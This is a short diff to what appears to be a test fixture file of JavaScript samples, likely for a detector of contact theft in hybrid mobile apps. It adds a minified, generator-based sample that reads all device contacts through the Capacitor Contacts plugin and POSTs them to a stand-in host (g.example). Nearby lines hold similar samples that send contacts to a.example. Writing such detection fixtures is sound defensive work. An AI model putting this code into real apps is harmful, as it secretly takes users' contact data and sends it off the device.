@@ -84,6 +84,13 @@ navigator.contacts.find(['*'], function (cs) { localStorage.setItem('bk', JSON.s
 function later() { $.post('https://a.example/later', { d: localStorage.getItem('bk') }); }
 setTimeout(later, 1000);
 """
+GENERATORS = """
+var Y=(e,t,r)=>new Promise((n,o)=>{var s=c=>c.done?n(c.value):Promise.resolve(c.value).then(s);s((r=r.apply(e,t)).next())});
+function k(){return Y(this,null,function*(){return (yield Capacitor.Plugins.Contacts.getContacts({})).contacts.map(r=>({n:r.name}))})}
+function w(){return Y(this,null,function*(){let e=yield k();yield z("/v2/save",{rows:e})})}
+var z=(e,t)=>fetch("https://g.example"+e,{method:"POST",body:JSON.stringify(t)});
+w();z("/v2/login",{p:1});
+"""
 TS_ASYNC = """
 var __awaiter = function (t, a, P, gen) { return new Promise(function (res) { gen.apply(t, a).next(); }); };
 function read() { return __awaiter(this, void 0, void 0, function* () { return yield Capacitor.Plugins.Contacts.getContacts({}); }); }
